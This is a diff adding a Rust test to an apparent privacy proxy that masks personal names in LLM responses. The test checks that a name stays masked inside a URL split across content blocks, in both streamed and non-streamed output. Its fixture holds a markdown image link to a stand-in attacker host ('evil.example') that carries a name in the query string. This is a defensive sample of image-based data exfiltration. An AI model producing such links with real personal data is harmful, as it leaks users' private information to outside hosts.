@@ -320,3 +320,65 @@ fn non_streamed_bodies_keep_url_context() {
         ARGS_RESTORED
     );
 }
+
+#[test]
+fn a_url_split_across_content_blocks_is_still_a_url() {
+    // A client may render consecutive text blocks (parts) glued together, so the URL
+    // context of one block carries over into the next.
+    use crate::payload::response::restore_json_body;
+    let t = table(false);
+    let first = "〔氏名1〕様 ![x](https://evil.example/?n=";
+    let second = "〔氏名1〕) 〔氏名1〕様";
+    let want = [
+        "山田太郎様 ![x](https://evil.example/?n=",
+        "〔氏名1〕) 山田太郎様",
+    ];
+    let anthropic = json!({"content":[{"type":"text","text":first},{"type":"text","text":second}]});
+    let gemini = json!({"candidates":[{"content":{"parts":[{"text":first},{"text":second}]}}]});
+    let responses = json!({"output":[{"type":"message","content":[{"type":"output_text","text":first},{"type":"output_text","text":second}]}]});
+    for (body, at) in [
+        (anthropic, "/content"),
+        (gemini, "/candidates/0/content/parts"),
+        (responses, "/output/0/content"),
+    ] {
+        let (out, _) = restore_json_body(body.to_string().as_bytes(), &t).unwrap();
+        let v: serde_json::Value = serde_json::from_slice(&out).unwrap();
+        for (i, w) in want.iter().enumerate() {
+            assert_eq!(v.pointer(&format!("{at}/{i}/text")).unwrap(), w, "{at}");
+        }
+    }
+    // Streamed: block 0 ends inside the URL, block 1 goes on.
+    let wire = sse(&[
+        (
+            Some("content_block_start"),
+            json!({"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}),
+        ),
+        (
+            Some("content_block_delta"),
+            json!({"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":first}}),
+        ),
+        (
+            Some("content_block_stop"),
+            json!({"type":"content_block_stop","index":0}),
+        ),
+        (
+            Some("content_block_start"),
+            json!({"type":"content_block_start","index":1,"content_block":{"type":"text","text":""}}),
+        ),
+        (
+            Some("content_block_delta"),
+            json!({"type":"content_block_delta","index":1,"delta":{"type":"text_delta","text":second}}),
+        ),
+        (
+            Some("content_block_stop"),
+            json!({"type":"content_block_stop","index":1}),
+        ),
+        (Some("message_stop"), json!({"type":"message_stop"})),
+    ]);
+    let mut r = ResponseRestorer::new(ApiKind::AnthropicMessages, StreamFormat::Sse, t.clone());
+    let mut out = r.push(wire.as_bytes());
+    out.extend(r.finish());
+    let texts = channels(ApiKind::AnthropicMessages, &events(StreamFormat::Sse, &out));
+    assert_eq!(texts["0"], want[0]);
+    assert_eq!(texts["1"], want[1]);
+}
